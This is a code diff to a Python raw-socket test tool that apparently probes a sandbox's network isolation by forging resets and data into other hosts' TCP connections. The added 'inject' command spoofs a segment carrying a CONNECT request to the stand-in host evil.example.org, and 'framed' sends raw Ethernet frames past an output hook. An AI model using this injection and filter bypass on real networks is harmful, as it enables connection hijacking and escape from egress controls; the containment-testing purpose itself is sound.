@@ -1,7 +1,7 @@
-"""Rows 30, 31: speaks in others' connections. resets.py far | own | provoked | answer DEVICE PORT OTHER_PORT... | unreachable DEVICE PORT | call ADDRESS PORT COUNT | send ADDRESS PORT REQUEST | serve OWN PORT
+"""Rows 30, 31, 41: speaks in others' connections. resets.py far | own | provoked | answer | inject DEVICE PORT OTHER_PORT... | framed DEVICE PORT MAC | unreachable DEVICE PORT | call ADDRESS PORT COUNT | send ADDRESS PORT REQUEST | serve OWN PORT
 
 Reads each segment of PORT on the device, and sends by a raw socket what disturbs its flow: `far` a reset in the far end's name, `own` one from the
-sandbox's side, `provoked` an acknowledgement from there, which whoever refuses it may answer with a reset, `answer` data from there. Says `ready`, and `sent` with
+sandbox's side, `provoked` an acknowledgement from there, which whoever refuses it may answer with a reset, `answer` data from there, `inject` data to there; `framed` sends such data past the output hook. Says `ready`, and `sent` with
 how the first one ended. `unreachable` tells the sandbox's end of each connection that it opens, by ICMP over lo, that nothing is there.
 `call` connects, waits a moment, and asks for /healthz, `send` makes one request so; `serve` answers such callers.
 """
@@ -10,7 +10,7 @@ import socket
 import struct
 import time
 
-from packets import attempt, dispatch, family, icmp, ip, is_six, say, send_raw, tcp
+from packets import attempt, dispatch, ethernet, ethertype_of, family, icmp, ip, is_six, say, send_frame, send_raw, tcp
 
 WAIT = 0.1
 SYN, RST, PSH, ACK = 2, 4, 8, 16
@@ -39,7 +39,7 @@ def segments(device, port):
             yield kind != 4, addresses, (source, destination), following % 2**32, acknowledged
 
 
-def each(device, port, ports, write):
+def each(device, port, ports, write, send=send_raw):
     """For each segment and each of our ports that its flow may have, as the API's has another one behind the redirect."""
     told = False
     for comes_in, (source, destination), (source_port, port_there), following, acknowledged in segments(device, int(port)):
@@ -51,7 +51,7 @@ def each(device, port, ports, write):
             continue
         for our_port in (own[1], *map(int, ports)):
             try:
-                send_raw(*write((own[0], our_port), far, ours, theirs))
+                send(*write((own[0], our_port), far, ours, theirs))
                 result = "sent"
             except OSError as error:
                 result = error.strerror
@@ -87,6 +87,21 @@ def answer(device, port, *ports):
         return ip(own[0], far[0], 6, tcp(*own, *far, PSH | ACK, text, sequence=ours, acknowledged=theirs)), far[0]
 
     each(device, port, ports, say_so)
+
+
+def inject(device, port, *ports):
+    def say_more(own, far, ours, theirs):
+        return ip(own[0], far[0], 6, tcp(*own, *far, PSH | ACK, b"CONNECT evil.example.org:443 HTTP/1.1\r\n\r\n", sequence=ours, acknowledged=theirs)), far[0]
+
+    each(device, port, ports, say_more)
+
+
+def framed(device, port, mac):
+    def say_more(own, far, ours, theirs):
+        data = tcp(*own, *far, PSH | ACK, b"data in a frame" * 4, sequence=ours, acknowledged=theirs)
+        return device, ethernet(mac, ethertype_of(own[0]), ip(own[0], far[0], 6, data))
+
+    each(device, port, (), say_more, send_frame)
 
 
 def unreachable(device, port):
